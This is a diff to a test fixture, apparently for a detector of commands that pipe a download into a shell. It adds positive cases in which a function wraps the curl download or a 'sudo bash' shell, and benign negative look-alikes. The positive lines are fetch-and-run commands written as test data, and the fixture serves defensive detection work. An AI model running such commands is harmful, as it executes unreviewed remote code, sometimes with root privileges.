@@ -65,6 +65,12 @@ curl -s https://example.com/x | sudo -i
 #@ pos sourced from /dev/stdin, and the user's $SHELL
 curl -s https://example.com/env | source /dev/stdin
 curl -s https://example.com/x | $SHELL
+#@ pos a function that wraps the download
+dl() { curl -fsSL "$1"; }
+dl https://example.com/x | sh
+#@ pos a function that wraps the shell
+run() { sudo bash; }
+wget -qO- https://example.com/x | run
 #@ neg the words inside a string
 echo "run: curl https://example.com/x | sh"
 #@ neg in a comment
@@ -77,6 +83,9 @@ curl -s https://api.example.com/v1/items | python3 -m json.tool
 curl -s https://api.example.com/v1/items | jq .
 #@ neg the shell runs a local script, the download is data
 curl -s https://example.com/data.csv | bash ./process.sh
+#@ neg a function named like a shell that runs a script file
+sh_lint() { shellcheck ./build.sh; }
+curl -s https://example.com/rules.txt | sh_lint
 #@ neg grep for the word python
 curl -s https://example.com/ | grep python
 #@ neg download to a file that is not run
